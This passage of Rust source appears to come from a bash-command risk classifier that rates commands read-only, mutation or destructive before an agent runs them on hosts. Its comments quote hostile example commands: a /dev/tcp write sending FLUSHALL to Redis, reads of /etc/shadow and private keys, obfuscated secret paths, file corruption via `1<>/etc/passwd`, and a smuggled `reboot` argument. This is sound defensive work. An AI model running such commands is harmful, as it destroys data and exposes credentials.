        (name.clone(), value, verdict)
    }

    /// An array subscript bash evaluates as arithmetic: reading a variable
    /// other than a loop's known value evaluates that variable's contents
    /// (destructive when it was set to command text in this command).
    fn subscript(&mut self, subscript: &str) {
        if !words::arithmetic_reads_variables(subscript) {
            return;
        }
        if !self.names_numbers(subscript) {
            let v = self.evaluation(subscript, &[]);
            self.push(format!("[{subscript}]"), v);
        }
    }

    /// Judges the redirections of one command.
    /// What the shell opening `arg` for input reads or does.
    fn input_file(&self, arg: &Arg) -> Verdict {
        if rules::names_secret_file(arg, &self.folders)
            // A file whose settings hold credentials, whole
            // (`cat < haproxy.cfg`; review 48).
            || arg.literal().is_some_and(|w| {
                self.folders.resolve_reading(w).iter().any(|p| {
                    crate::secret_paths::credential_settings_file(p).is_some()
                })
            })
            // A target only known at run time
            // (`< /etc/sha$u"dow"`): what it may be.
            || (arg.is_dynamic()
                && rules::secrets::may_print_secret(
                    arg.raw(),
                    true,
                    &self.folders,
                ))
            // A disk or a guest's image, however spelled
            // (`< //dev/sda`, `< sda` after `cd /dev`).
            || (!arg.is_dynamic()
                && rules::secrets::may_print_secret(
                    arg.raw(),
                    false,
                    &self.folders,
                ))
        {
            rules::reads_secret(arg.raw())
        } else if rules::secrets::opens_acting_file("<", std::slice::from_ref(arg), &self.folders)
            .is_some()
        {
            // The shell opens it: `wc -c < /proc/kmsg`
            // consumes the kernel's log as `head` would.
            Verdict::mutation(format!(
                "the shell opens `{}` for input, which acts when opened (a watchdog \
                 reboots the host, a kernel pipe is consumed)",
                arg.raw()
            ))
        } else {
            Verdict::read_only("reads a file")
        }
    }

    /// A here-document's text: its variables and substitutions, when it
    /// is expanded.
    fn here_document(&mut self, doc: &ast::IoHereDocument, depth: usize) -> Verdict {
        if doc.requires_expansion {
            // Its variables are expanded as a word's are.
            let text = heredoc_text(&doc.doc.value);
            let names: Vec<String> = rules::expanded_names(&text)
                .into_iter()
                .map(str::to_string)
                .collect();
            self.expansion_effects(&text, &[]);
            self.environment_reads(&names, "a here-document");
            self.word_text(&text, depth)
        } else {
            Verdict::read_only("a literal heredoc")
        }
    }

    fn redirects(&mut self, redirects: &[IoRedirect], depth: usize) -> Verdict {
        let mut verdict = Verdict::read_only("no write redirection");
        // Output copied onto another descriptor may land on a socket opened
        // for reading (`echo FLUSHALL </dev/tcp/h/6379 >&0`).
        let duplicates_output = redirects.iter().any(|r| {
            matches!(
                r,
                IoRedirect::File(_, IoFileRedirectKind::DuplicateOutput, _)
                    | IoRedirect::OutputAndError(..)
            )
        });
        for (at, redirect) in redirects.iter().enumerate() {
            let v = match redirect {
                IoRedirect::File(_, kind, target) => {
                    let writes = matches!(
                        kind,
                        IoFileRedirectKind::Write
                            | IoFileRedirectKind::Append
                            | IoFileRedirectKind::Clobber
                            | IoFileRedirectKind::ReadAndWrite
                            | IoFileRedirectKind::DuplicateOutput
                    );
                    match target {
                        IoFileRedirectTarget::Filename(w) => {
                            let arg = self.arg(w, depth);
                            // bash's own sockets: `< /dev/tcp/HOST/PORT` sends
                            // and receives like `nc`.
                            if let Some(v) = self.bash_socket(&arg, writes || duplicates_output) {
                                v
                            } else if writes {
                                // `<>` writes over the file's first bytes in place
                                // (`ls 1<>/etc/passwd` corrupts it): not an append.
                                let append = matches!(kind, IoFileRedirectKind::Append);
                                rules::write_target_as(&arg, append, &self.folders)
                            } else {
                                self.input_file(&arg)
                            }
                        }
                        IoFileRedirectTarget::Duplicate(w) => {
                            let arg = self.arg(w, depth);
                            let is_fd = arg
                                .literal()
                                .is_some_and(|s| s == "-" || s.chars().all(|c| c.is_ascii_digit()));
                            if writes && !is_fd {
                                rules::write_target(&arg, &self.folders)
                            } else {
                                // (`<&3-` moves descriptor 3.)
                                let fd = arg.literal().map(|s| s.strip_suffix('-').unwrap_or(s));
                                match fd.and_then(|s| s.parse::<i32>().ok()) {
                                    Some(fd) => {
                                        jobs::inherited_descriptor(fd, writes, &redirects[..at])
                                    }
                                    None => Verdict::read_only("duplicates a descriptor"),
                                }
                            }
                        }
                        IoFileRedirectTarget::Fd(fd) => {
                            jobs::inherited_descriptor(*fd, writes, &redirects[..at])
                        }
                        IoFileRedirectTarget::ProcessSubstitution(_, sub) => {
                            self.maybe_list(&sub.list, depth + 1);
                            Verdict::read_only("process substitution")
                        }
                    }
                }
                IoRedirect::OutputAndError(w, _) => {
                    let arg = self.arg(w, depth);
                    rules::write_target(&arg, &self.folders)
                }
                IoRedirect::HereDocument(_, doc) => self.here_document(doc, depth),
                IoRedirect::HereString(_, w) => {
                    self.arg(w, depth);
                    Verdict::read_only("a here-string")
                }
            };
            verdict = verdict.max(v);
        }
        verdict
    }

    /// A redirection to bash's `/dev/tcp/HOST/PORT` or `/dev/udp/…`
    /// opens a connection: a change at least.
    /// Writing to one sends whatever the command prints to a service (a
    /// `FLUSHALL` to Redis): destructive.
    fn bash_socket(&self, target: &Arg, writes: bool) -> Option<Verdict> {
        let raw = target.raw().trim_matches(['\'', '"']);
        let rest = raw
            .strip_prefix("/dev/tcp/")
            .or_else(|| raw.strip_prefix("/dev/udp/"))
            .or_else(|| (raw.contains("/dev/tcp") || raw.contains("/dev/udp")).then_some(""))?;
        let host = rest.split('/').next().unwrap_or("");
        if writes {
            return Some(Verdict::destructive(format!(
                "writes to `{raw}`: sends what the command prints to a service"
            )));
        }
        // Opened for reading, to a lab host: a port check (`timeout 5 bash
        // -c '</dev/tcp/10.0.0.5/22'`). Elsewhere it is still two-way (`<
        // /dev/tcp/… >&0` writes to it), so never proven harmless.
        let literal = target.literal().is_some();
        if literal && !host.is_empty() && self.egress.allows(host) {
            return Some(Verdict::read_only(format!(
                "`{raw}` opens a connection to {host}, a lab host, and reads from it"
            )));
        }
        Some(Verdict::mutation(format!(
            "`{raw}` opens a two-way connection to {}",
            if host.is_empty() {
                "a host only known at run time"
            } else {
                host
            }
        )))
    }

    /// Judges a program with its arguments (after any wrapper).
    /// What `argv` does when `runner` (sudo, timeout, env, pct exec,
    /// xargs, …) executes it as a program: a shell builtin that only acts
    /// on the shell (`read`, `export`, `cd`) is no program there, and
    /// whatever runs under its name is unknown (fuzz seed
    /// 1796529537627425856: `sudo read https_proxy` is not bash's
    /// `read`). `builtin` and `command` run the builtins themselves, but
    /// are builtins too: run as a program, they are unknown.
    pub(crate) fn program_invocation(
        &mut self,
        runner: &str,
        argv: &[Arg],
        stdin: Stdin<'_>,
        depth: usize,
    ) -> Verdict {
        const SHELL_ONLY: &[&str] = &[
            // (`sudo command read OPTIND <<< …`: Debian ships no `command`
            // program; a fuzz seed of stop 69 read it as the builtin.)
            "command",
            "builtin",
            "read",
            "mapfile",
            "readarray",
            "export",
            "declare",
            "typeset",
            "local",
            "readonly",
            "set",
            "shopt",
            "cd",
            "pushd",
            "popd",
            "dirs",
            "alias",
            "unalias",
            "unset",
            "source",
            ".",
            "eval",
            "exec",
            "trap",
            "ulimit",
            "umask",
            "hash",
            "enable",
            "let",
            "getopts",
            "wait",
            "jobs",
            "bg",
            "fg",
            "disown",
            "history",
            "fc",
            "complete",
            "compgen",
            "compopt",
            "bind",
            "caller",
            "return",
            "exit",
            "shift",
            "break",
            "continue",
            "suspend",
            "logout",
            "times",
        ];
        match argv.first().and_then(Arg::literal) {
            Some(program)
                if SHELL_ONLY.contains(&program) && !matches!(runner, "builtin" | "command") =>
            {
                Verdict::mutation(format!(
                    "`{runner}` runs a program named `{program}`: the shell's builtin is no program, \
                     and what runs under its name is unknown"
                ))
                .max(self.invocation(argv, stdin, depth))
            }
            _ => self.invocation(argv, stdin, depth),
        }
    }

    pub(crate) fn invocation(&mut self, argv: &[Arg], stdin: Stdin<'_>, depth: usize) -> Verdict {
        let Some(first) = argv.first() else {
            return Verdict::read_only("nothing to run");
        };
        // A program fed input may read it whatever its flags say (`echo
        // cmd | tclsh --version` runs cmd).
        let fed = !matches!(stdin, Stdin::Inherited);
        if let Some(v) = rules::only_prints_version(argv).filter(|_| !fed) {
            return v;
        }
        match first.literal() {
            Some(program) if !first.is_glob() => {
                let name = program.rsplit('/').next().unwrap_or(program);
                if name.is_empty() {
                    return Verdict::destructive(format!("`{program}` is not a program name"));
                }
                // `printf 'POST …' | openssl s_client -connect lab:443`:
                // what it reads goes to the server (a request, a mail).
                let sends_input = match &stdin {
                    Stdin::Inherited => false,
                    Stdin::Text(text) => !text.trim().is_empty(),
                    // `echo | openssl s_client …`: an empty line at most.
                    Stdin::Pipe(before) => !before
                        .iter()
                        .all(|c| matches!(c.to_string().trim(), "echo" | "true" | ":" | "echo -n")),
                    Stdin::Unknown => true,
                };
                if name == "openssl"
                    && argv.get(1).and_then(Arg::literal) == Some("s_client")
                    && sends_input
                {
                    // At least a change; whatever else its words do counts too.
                    let alone = self.invocation(argv, Stdin::Inherited, depth);
                    return s_client_sends(&stdin).max(alone);
                }
                let (name, args) = match program_and_words(program, name, argv) {
                    Ok(found) => found,
                    Err(verdict) => return verdict,
                };
                // (`php /var/www/nextcloud/occ status`: the application's
                // listing, judged by its table; review 72.)
                let (name, args) = match rules::app_command(name, &args, &self.folders) {
                    Some((cli, words)) => (cli, words),
                    None => (name, args),
                };
                self.network = self.network.max(network::use_of(name));
                for folder in rules::secrets::entered(name, &args) {
                    self.folders.enter(folder.as_deref());
                }
                // (A search reading a pipe from a file printer, or a file,
                // reads that file's lines: `piped_private`, set where the
                // pipe or the redirection is; `grep -i password < F`, any
                // file.)
                let upstream_private = match &stdin {
                    Stdin::Unknown => true,
                    Stdin::Pipe(_) | Stdin::Inherited => self.piped_private,
                    Stdin::Text(_) => false,
                };
                let verdict = rules::judge(self, name, &args, stdin.clone(), depth);
                let verdict = proven(self, verdict, name, &args, stdin, depth);
                // A change whose options point it at a file the host needs
                // or runs (`psql -o /etc/passwd`): destructive.
                let verdict = match verdict.class {
                    RiskClass::ConfigMutation => {
                        rules::pointed_at(name, &args, &self.folders).unwrap_or(verdict)
                    }
                    _ => verdict,
                };
                let verdict = verdict.max(opens_acting(name, &args, &self.folders));
                verdict.max(self.names_secret_file(name, &args, upstream_private))
            }
            _ => Verdict::destructive(format!(
                "the program `{}` is not known until run time",
                first.raw()
            )),
        }
    }

    /// Naming a secret file (`cat /etc/shadow`, `grep x
    /// /etc/pve/priv/authkey.key`) needs approval whatever reads it.
    fn names_secret_file(&self, name: &str, args: &[Arg], upstream_private: bool) -> Verdict {
        // (Programs that show only names or metadata are exempt.)
        let shows = rules::shows_contents(name) && {
            let lits: Vec<&str> = args.iter().filter_map(Arg::literal).collect();
            !rules::secrets::only_lists(name, &lits)
        };
        // (A digest shows what a secret file held to whoever can
        // guess it: its secret names count, not its settings.)
        let digest = rules::secrets::digests(name);
        // (A search of plain names' settings prints those lines alone,
        // whatever file holds them: [`rules::picks_plain_assignments`].)
        let lits: Vec<&str> = args.iter().filter_map(Arg::literal).collect();
        if lits.len() == args.len() && rules::picks_plain_assignments(name, &lits) {
            return Verdict::read_only("prints only the lines of plainly named settings");
        }
        // (A grep's pattern and name globs are no file it reads.)
        let mut no_file = if shows {
            rules::words_naming_no_file(name, args)
        } else {
            Vec::new()
        };
        if name == "cut" {
            no_file.extend(rules::secrets::cut_leaves_out_secrets(args));
        }
        if matches!(name, "awk" | "gawk" | "mawk") {
            no_file.extend(rules::awk_words_naming_no_file(name, args));
        }
        // (After `--`, a word that looks like an option is a file
        // in the working folder: `cat -- -n`; review 63.)
        let ended = args.iter().position(|a| a.literal() == Some("--"));
        let names_secret = |i: usize, word: &Arg| match word.literal() {
            Some(w) if w.starts_with('-') && ended.is_some_and(|e| i > e) => {
                rules::names_secret(&Arg::literal_of(format!("./{w}")), &self.folders)
            }
            _ => rules::names_secret(word, &self.folders),
        };
        match args.iter().enumerate().find(|(i, word)| {
            (shows || (digest && !rules::secrets::bulk(word.raw()) && word.literal() != Some("-c")))
                && !no_file.contains(i)
                && names_secret(*i, word)
        }) {
            Some((_, word)) => rules::reads_secret(word.raw()),
            None if shows
                && let Some(file) =
                    rules::prints_credential_settings(name, args, &no_file, &self.folders) =>
            {
                rules::reads_secret(&format!(
                    "{}, whose settings hold credentials, whole",
                    file.raw()
                ))
            }
            None if shows && rules::prints_credential_lines(name, args, upstream_private) => {
                rules::reads_secret("the lines a credential's setting is named on")
            }
            None => rules::prints_hidden_secret(name, args, &self.folders),
        }
    }

    /// What a shell or interpreter reading its standard input would run.
    pub(crate) fn stdin_script(&mut self, stdin: Stdin<'_>, runner: &str, depth: usize) -> Verdict {
        match stdin {
            // (Kept for whoever judges the same reader again, a wrapper's
            // table after its rule: `ssh h 'sudo bash'`; but not seen by
            // the readers inside the script it is: review 91.)
            Stdin::Inherited => match self.outer_input.clone() {
                Some(OuterInput::Text(text)) => {
                    let kept = self.outer_input.take();
                    let verdict = self
                        .script_read_from_input(runner, &text, depth)
                        .prefixed(&format!("`{runner}` runs its runner's input: "));
                    self.outer_input = kept;
                    verdict
                }
                Some(OuterInput::Unknown) => Verdict::destructive(format!(
                    "`{runner}` runs its runner's input, a script only known at run time, which \
                     can run any command"
                )),
                None => Verdict::mutation(format!("starts `{runner}` reading the session's input")),
            },
            Stdin::Unknown => Verdict::destructive(format!(
                "`{runner}` runs a script only known at run time, which can run any command"
            )),
            Stdin::Text(text) => self
                .script_read_from_input(runner, &text, depth)
                .prefixed(&format!("`{runner}` runs: ")),
            Stdin::Pipe(upstream) => {
                if let Some(decoder) = upstream.iter().find_map(rules::decodes_or_transforms) {
                    return Verdict::destructive(format!(
                        "a payload transformed by `{decoder}` is piped into `{runner}`"
                    ));
                }
                // The stage that feeds the runner decides what it runs.
                match upstream.last() {
                    Some(Command::Simple(feeder)) => match rules::literal_output(feeder) {
                        Some(text) => self
                            .script_read_from_input(runner, &text, depth)
                            .prefixed(&format!("`{runner}` runs: ")),
                        None => piped_script(runner),
                    },
                    _ => piped_script(runner),
                }
            }
        }
    }
}

/// What a known array holds ([`Walker::arrays`]).
#[derive(Debug, Clone)]
enum ArrayValues {
    /// Plain literal words.
    Words(Vec<Arg>),
    /// The VMID column of the guest list.
    Vmids,
}

/// The array a simple command sets whole, and its elements: `NAME=(a
/// b)` with plain literal words (no keys, no globs), or `mapfile [-t]
/// NAME < <(VMID list)`.
fn array_assigned(simple: &SimpleCommand) -> Option<(String, ArrayValues)> {
    match (&simple.prefix, &simple.word_or_name, &simple.suffix) {
        (Some(prefix), None, None) => {
            let [CommandPrefixOrSuffixItem::AssignmentWord(assignment, _)] = prefix.0.as_slice()
            else {
                return None;
            };
            let (ast::AssignmentName::VariableName(name), ast::AssignmentValue::Array(items)) =
                (&assignment.name, &assignment.value)
            else {
                return None;
            };
            if assignment.append || items.is_empty() || items.len() > sources::MAX_VALUES {
                return None;
            }
            let words = items
                .iter()
                .map(|(key, value)| {
                    let arg = words::analyse(&value.value).arg;
                    (key.is_none() && !arg.is_glob() && sources::plain_value(&arg)).then_some(arg)
                })
                .collect::<Option<Vec<Arg>>>()?;
            Some((name.clone(), ArrayValues::Words(words)))
        }
        (None, Some(program), Some(suffix))
            if matches!(program.value.as_str(), "mapfile" | "readarray") =>
        {
            let mut words = Vec::new();
            let mut redirects = Vec::new();
            for item in &suffix.0 {
                match item {
                    CommandPrefixOrSuffixItem::Word(w) => words.push(w.value.as_str()),
                    CommandPrefixOrSuffixItem::IoRedirect(r) => redirects.push(r.clone()),
                    _ => return None,
                }
            }
            let name = match words.as_slice() {
                ["-t", name] | [name] => *name,
                _ => return None,
            };
            let plain = name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
                && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
            let feeder = substituted_input(&redirects)?;
            (plain && redirects.len() == 1 && sources::vmid_list(&feeder))
                .then(|| (name.to_string(), ArrayValues::Vmids))
        }
        _ => None,
    }
}

/// Whether a compound command redirects its standard input (`done <
/// FILE`, `<<< X`, `0<&3`, a heredoc).
/// (A variable bash sets itself, `_`, `PWD`, or whose assignments
/// it ignores, `EPOCHSECONDS`, `SRANDOM`: not the loop's value;
/// thirty-seventh review.)
/// Whether a command of `text` is named by an expansion (`$r p` with
/// `r=read`, `r$r`, `` `echo read` ``): it may be a builtin that sets any
/// variable, which no scan of the words can see (review 97).
fn names_a_command(text: &str) -> bool {
    const STARTS: &[&str] = &[
        "do", "then", "else", "elif", "!", "{", "}", "if", "while", "until",
    ];
    let assignment = |w: &str| w.contains('=') && !w.starts_with(['=', '$']);
    // (A redirection may come first, `>/dev/null $u -f x`, its target
    // a word of its own after a bare operator; review 99.)
    fn operator(w: &str) -> &str {
        w.trim_start_matches(|c: char| c.is_ascii_digit())
            .trim_start_matches('&')
    }
    let redirection = |w: &str| operator(w).starts_with(['<', '>']);
    // (`command`, `builtin`, `time -p` and `exec` run the word after their
    // options as the command: `command ${a}ap`; review 100. Words are
    // read as bash splits them, quotes kept: `TERM='x y' ${a}ap`;
    // review 101.)
    words::shell_commands(text).iter().any(|command| {
        let mut prefix = false;
        let mut words = command.iter().map(String::as_str);
        while let Some(w) = words.next() {
            if STARTS.contains(&w) || assignment(w) || (prefix && w.starts_with('-')) {
                continue;
            }
            if matches!(w, "command" | "builtin" | "time" | "exec") {
                prefix = true;
                continue;
            }
            if redirection(w) {
                if operator(w)
                    .trim_start_matches(['<', '>', '|', '&'])
                    .is_empty()
                {
                    words.next();
                }
                continue;
            }
            // (A brace list spells any word: `command {read,h}`; review
            // 102.)
            return w.contains('$') || w.contains('`') || functions::brace_list(w);
        }
        false
    })
}

/// The text of a list's items after a binding (a constant's, an
/// array's), joined as one script: `None` past [`MAX_CONSTANT_ITEMS`]
/// items or [`MAX_CONSTANT_REST`] bytes, which are not searched (each
/// binding would search them again).
fn list_text(rest: &[ast::CompoundListItem]) -> Option<String> {
    if rest.len() > MAX_CONSTANT_ITEMS {
        return None;
    }
    let text = rest
        .iter()
        .map(ToString::to_string)
        .collect::<Vec<_>>()
        .join("; ");
    (text.len() <= MAX_CONSTANT_REST).then_some(text)
}

/// bash's own integer variables: what is assigned to one is evaluated
/// as arithmetic (variables.c gives them `att_integer`).
pub(crate) const INTEGER_VARIABLES: &[&str] = &[
    "RANDOM", "SRANDOM", "SECONDS", "LINENO", "OPTIND", "HISTCMD", "BASHPID",
];

/// The most items after a constant's assignment, and bytes of their
/// text, searched for another assignment of it.
const MAX_CONSTANT_ITEMS: usize = 64;
const MAX_CONSTANT_REST: usize = 16 * 1024;

fn shell_owned(name: &str) -> bool {
    SHELL_SET.contains(&name)
        || matches!(
            name,
            "EPOCHSECONDS"
                | "EPOCHREALTIME"
                | "SRANDOM"
                | "RANDOM"
                | "SECONDS"
                | "LINENO"
                | "BASHPID"
                | "HISTCMD"
                | "BASH_SUBSHELL"
                | "PPID"
                | "UID"
                | "EUID"
        )
}

/// The values a loop's body is judged with, one at a time: each of a
/// short list of plain values, or one standing for all of a command's
/// output (a VMID for `$(pct list | awk …)`, a process id, a disk's name,
/// a container's id: [`sources::stand_in`]); none when neither holds.
fn loop_turns(substituted: Option<&str>, vmids: bool, values: &[Arg]) -> Vec<Arg> {
    let stand_in = substituted
        .and_then(sources::stand_in)
        .or_else(|| vmids.then_some(sources::VMID));
    if let Some(value) = stand_in {
        vec![Arg::literal_of(value)]
    } else if !values.is_empty()
        && values.len() <= sources::MAX_VALUES
        && values
            .iter()
            .all(|v| sources::plain_value(v) || sources::path_value(v))
    {
        values.to_vec()
    } else {
        Vec::new()
    }
}

/// Whether every `$` of a word stands inside double quotes, and nothing
/// else in it is quoted or escaped (`"$h"/name`, `/x/"$d"`).
fn every_expansion_quoted(raw: &str) -> bool {
    let mut double = false;
    raw.chars().all(|c| match c {
        '"' => {
            double = !double;
            true
        }
        '$' => double,
        '\\' | '\'' | '`' => false,
        _ => true,
    }) && !double
}

/// `for pid in $(pgrep x)`: each value is one field, no blank in
/// it, when no value word is quoted and the body never sets it.
/// (A glob's file names may hold blanks: not fields.)
fn splits_into_fields<'a>(values: impl IntoIterator<Item = &'a ast::Word>) -> bool {
    values.into_iter().all(|v| {
        let text = v.value.as_str();
        let plain = !text.contains(['"', '\'', '\\', '*', '?', '[', '{', '$', '`']);
        let listed = text
            .strip_prefix("$(")
            .and_then(|t| t.strip_suffix(')'))
            .is_some_and(sources::loop_fields);
        plain || listed
    })
}

/// A glob that starts with a wildcard (`find *`) expands to whatever
/// file names the folder holds, `-delete` included: an option, unless
/// the program has none that writes or runs.
fn glob_may_be_option(name: &str, args: &[Arg]) -> Option<Verdict> {
    let extglob = |raw: &str| {
        ["@(", "+(", "!(", "?(", "*("]
            .iter()
            .any(|g| raw.starts_with(g))
    };
    args.iter()
        .find(|a| (a.is_glob() && a.raw().starts_with(['*', '?', '['])) || extglob(a.raw()))
        .filter(|_| !rules::OPTIONS_HARMLESS.contains(&name))
        .map(|glob| {
            Verdict::mutation(format!(
                "`{name}` has `{}`, a glob that may expand to a file named like an option",
                glob.raw()
            ))
        })
}

/// The command a runner runs (`command`: `nice -n 5 CMD`'s CMD; one
/// script for the remote shell when `joined`, as ssh's), judged apart so
/// its segments are not listed twice.
fn run_apart(
    walker: &mut Walker,
    name: &str,
    command: &[Arg],
    joined: bool,
    stdin: Stdin<'_>,
    depth: usize,
) -> Verdict {
    let mut scratch = Walker::new(&walker.egress);
    scratch.folders = walker.folders.clone();
    scratch.traps = walker.traps;
    scratch.header_named = walker.header_named;
    scratch.commands = walker.commands;
    scratch.words = walker.words;
    scratch.exhausted = walker.exhausted;
    // (The remote shell's input is ssh's: `… | ssh pve2 'bash -s'`.)
    scratch.outer_input = OuterInput::of(&stdin).or_else(|| walker.outer_input.clone());
    let inner = if joined {
        rules::joined_script(&mut scratch, name, command, depth + 1)
    } else {
        scratch.invocation(command, stdin, depth + 1)
    };
    walker.network = walker.network.max(scratch.network);
    walker.commands = scratch.commands;
    walker.words = scratch.words;
    if scratch.exhausted && !walker.exhausted {
        walker.exhausted = true;
        walker.segments.extend(
            scratch
                .segments
                .iter()
                .filter(|s| s.command == "(the rest)")
                .cloned(),
        );
    }
    inner
}

/// A line the tables do not prove read-only, by what stopped the proof.
fn unproven(name: &str, args: &[Arg], why: options::Unproven, runs_command: bool) -> Verdict {
    match why {
        // `nice -n $x`: split, a run-time word before the command a
        // runner runs may be an option's value and the command itself
        // (`x='1 reboot'`).
        options::Unproven::Dynamic(word)
            if runs_command && args.iter().any(|a| a.splits() && a.raw() == word) =>
        {
            Verdict::destructive(format!(
                "`{name}` has `{word}`, only known at run time: split into words, it may hold \
                         the command `{name}` runs"
            ))
            .printing(Output::Unproven)
        }
        // (A run-time word of a program with options that delete or
        // run, `journalctl "$(command -v x)""--vacuum-size=1K"`: it may
        // be one; review 117.)
        options::Unproven::Dynamic(word) if rules::option_alone_destroys(name) => {
            Verdict::destructive(format!(
                "`{name}` has `{word}`, only known at run time: it may be one of `{name}`'s \
                 options that write or delete"
            ))
            .printing(Output::Unproven)
        }
        // A subcommand not known to only inspect, told to lose
        // something: taken at its word, as an unknown program's.
        // (Not told only to show it: Go's `-dry-run`, `--dry-run`; blind
        // corpus 70.)
        // (Nor borg's, rclone's, restic's `-n`; nor a Terraform plan, which
        // only shows what `-destroy` would do; review 92.)
        options::Unproven::Verb(verb)
            if !(args
                .iter()
                .filter_map(Arg::literal)
                .any(|w| rules::says_dry_run(name, w))
                || (matches!(name, "terraform" | "tofu") && verb == "plan"))
                && let Some(word) = args
                    .iter()
                    .position(|a| a.literal() == Some(verb.as_str()))
                    .and_then(|at| {
                        rules::verb_names_loss(args[at..].iter().filter_map(Arg::literal))
                    }) =>
        {
            Verdict::destructive(format!(
                "`{name} {verb}` is not a subcommand known to only inspect, told to `{word}`: it \
                         may lose data"
            ))
            .printing(Output::Unproven)
        }
        why => Verdict::mutation(format!("`{name}` {why}")).printing(Output::Unproven),
    }
}

/// `exec 3</dev/tcp/h/p` keeps the socket open for later commands,
/// which may write to it (`echo FLUSHALL >&3`).
fn keeps_connection_open(argv: &[Arg], redirects: &[IoRedirect]) -> Option<Verdict> {
    let keeps_open = argv.first().and_then(Arg::literal) == Some("exec")
        && redirects.iter().any(|r| {
            let text = r.to_string();
            text.contains("/dev/tcp") || text.contains("/dev/udp")
        });
    keeps_open.then(|| {
        Verdict::destructive("`exec` keeps a connection open that later commands can write to")
    })
}

/// The program `argv` runs as the rules know it, and its words: a path
/// outside the system's folders, or one that climbs, is no program the
/// rules know (an `Err` with its verdict); an init script is `service`.
fn program_and_words<'a>(
    program: &str,
    name: &'a str,
    argv: &[Arg],
) -> Result<(&'a str, Vec<Arg>), Verdict> {
    // A path outside the system's program folders is not the
    // program its name says (`/tmp/ls`, `./cat`): what it does
    // is unknown.
    // `/etc/init.d/../../tmp/x` is /tmp/x.
    // (`.` alone is the builtin.)
    let climbs = program != "." && program.split('/').any(|p| p == ".." || p == ".");
    if climbs {
        return Err(Verdict::destructive(format!(
            "runs `{program}`, a program path that climbs out of its folder"
        )));
    }
    if !program.starts_with("/etc/init.d/") && !system_program(program) && !package_program(program)
    {
        return Err(Verdict::destructive(format!(
            "runs `{program}`, a program outside the system's folders whose contents are unknown"
        )));
    }
    // `/etc/init.d/NAME ACTION` is `service NAME ACTION`.
    let init_script = program.starts_with("/etc/init.d/");
    // OpenRC's `rc-service NAME ACTION` is `service NAME ACTION`.
    // (Its options, `-l`, `-e`, are its own.)
    let options_first = argv
        .get(1)
        .and_then(Arg::literal)
        .is_some_and(|w| w.starts_with('-'));
    Ok(if name == "rc-service" && !options_first {
        ("service", argv[1..].to_vec())
    } else if init_script {
        let mut as_service = vec![Arg::literal_of(name)];
        as_service.extend_from_slice(&argv[1..]);
        ("service", as_service)
    } else {
        (name, argv[1..].to_vec())
    })
}

/// Opening some files acts (a watchdog, a serial line, a tape, the
/// kernel's log pipe), whatever reads them.
fn opens_acting(name: &str, args: &[Arg], folders: &crate::secret_paths::Folders) -> Verdict {
    // (A wrapper's command is judged as the program it runs: `pct exec
    // 106 -- ls -l /dev/ttyUSB0` opens nothing.)
    let args = &args[..tables::command_index(name, args).map_or(args.len(), |i| i.min(args.len()))];
    match rules::secrets::opens_acting_file(name, args, folders) {
        Some(word) => Verdict::mutation(format!(
            "`{name}` opens `{}`, which acts when opened (a watchdog reboots the host, \
                         a serial line resets what hangs on it, a tape moves, a kernel pipe is consumed, \
                         another session's terminal loses its keystrokes)",
            word.raw()
        )),
        None => match rules::secrets::opens_listed_names(name, args) {
            Some(option) => Verdict::mutation(format!(
                "`{name} {option}` opens every file its list names, only known at run \
                             time: one may be a device that acts when opened (a watchdog reboots \
                             the host)"
            )),
            None => Verdict::read_only("opens no file that acts"),
        },
    }
}

fn redirects_input(command: &Command) -> bool {
    match command {
        Command::Compound(_, Some(redirects)) => !inputs(&redirects.0).is_empty(),
        _ => false,
    }
}

/// Whether another part of `command` may show the words it expands, a
/// credential's value among them: bash's trace (`set` in any spelling,
/// `set -"x"`, `f=x; set -$f`; a shell started with options;
/// `SHELLOPTS`, `PS4`), or a process listing that shows command lines
/// (`ps`, `pgrep -a`, `pstree -a`, `top`, `w`, `/proc/PID/cmdline`);
/// reviews 105 and 106. Read by its words, quotes and all taken apart.
fn may_trace(command: &str) -> bool {
    const SHOWS: &[&str] = &[
        "set",
        "bash",
        "sh",
        "dash",
        "ksh",
        "mksh",
        "zsh",
        "busybox",
        "ps",
        "pgrep",
        "pstree",
        "top",
        "htop",
        "atop",
        "w",
        "eval",
        "source",
        "systemctl",
        "systemd-cgls",
        "pidstat",
        "loginctl",
        "iotop",
        "_",
    ];
    // (As bash reads the words: quotes and escapes taken out first, `s\et`,
    // `s""et`, `s$'e't` are `set`; `$_` is the last word expanded; review
    // 107.)
    let plain: String = command
        .replace("$'", "'")
        .replace("$\"", "\"")
        .chars()
        .filter(|c| !matches!(c, '\\' | '\'' | '"'))
        .collect();
    // (`$_` in any expansion, `${_:0}`, `${_@Q}`; review 108.)
    [
        "xtrace",
        "SHELLOPTS",
        "BASHOPTS",
        "PS4",
        "/proc/",
        "cmdline",
        "$_",
        "${_",
    ]
    .iter()
    .any(|w| plain.contains(w))
        || plain
            .split(|c: char| c.is_whitespace() || ";&|()`${}<>=".contains(c))
            .any(|w| SHOWS.contains(&w.rsplit('/').next().unwrap_or(w)))
}

/// What a command's redirections do (`redirected`), where the command
/// shows nothing of its input (`wc -l < /etc/shadow`, `wg pubkey < KEY`):
/// no secret it reads there is printed (blind corpora 141, 143). Not
/// `grep -c PATTERN`: a count of the lines a chosen pattern matches
/// answers whether the secret holds it, and asked again and again spells
/// it out, as a digest does.
fn counted_input(redirected: Verdict, redirects: &[IoRedirect], argv: &[Arg]) -> Verdict {
    if redirected.output == Output::Secret
        && redirected.class == RiskClass::ConfigMutation
        && one_plain_input(redirects)
        && rules::secrets::shows_no_input(argv)
    {
        Verdict::read_only("shows nothing of what it reads on its input, only a count")
    } else {
        redirected
    }
}

/// Whether `redirects` are one that gives standard input a file
/// ([`reads_a_plain_file`]) and any number that send output to
/// `/dev/null` (each redirection opens its file, the last input's only
/// is read: `< /etc/shadow < /proc/kmsg` opens both; review 106).
fn one_plain_input(redirects: &[IoRedirect]) -> bool {
    let inputs = redirects
        .iter()
        .filter(|r| matches!(r, IoRedirect::File(_, IoFileRedirectKind::Read, _)))
        .count();
    inputs == 1
        && redirects
            .iter()
            .all(|r| reads_a_plain_file(r) || discards(r))
}

/// A redirection that gives standard input a file by an absolute path
/// written out (no expansion, glob or quote) that resolves outside
/// `/dev`, `/proc`, `/sys` and `/run` (`//dev/watchdog`, `/./dev/…`
/// resolve into them; a relative path may be in any folder; review 106).
fn reads_a_plain_file(redirect: &IoRedirect) -> bool {
    match redirect {
        IoRedirect::File(fd, IoFileRedirectKind::Read, IoFileRedirectTarget::Filename(w)) => {
            let path = w.value.as_str();
